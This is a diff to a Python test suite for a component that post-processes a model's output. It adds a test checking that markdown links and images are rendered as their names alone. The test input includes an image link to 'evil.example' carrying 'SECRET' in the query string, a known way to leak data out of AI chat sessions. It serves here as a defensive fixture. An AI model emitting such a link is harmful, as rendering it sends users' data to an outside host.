@@ -160,7 +160,6 @@ def test_own_markers_of_the_model(said: str, *, by_letter: bool) -> None:
         "It ends in [12",
         "It ends in [",
         "Up to [1-3] or [4 to 5]",
-        "[x](https://example.org/[y])",
         "A matrix [[a], [b]]",
     ],
 )
@@ -236,7 +235,14 @@ def test_marking_shows_pieces_at_once() -> None:
     assert list(grounder.feed("Honey")) == ["Honey"]
     assert list(grounder.feed("bees dance")) == ["bees dance"]
     assert list(grounder.feed(" [")) == []
-    assert "".join(grounder.feed("x]")) == " [x]"
+    assert "".join(grounder.feed("x] y")) == " [x] y"
+
+
+@BY_LETTER
+def test_links_become_text(*, by_letter: bool) -> None:
+    """A link or a picture that the model writes is shown by its name alone."""
+    said = "[x](https://example.org/[y]) and ![z](https://evil.example/?q=SECRET)."
+    assert grounded(said, by_letter=by_letter).content == "x and z."
 
 
 def test_fallback() -> None:
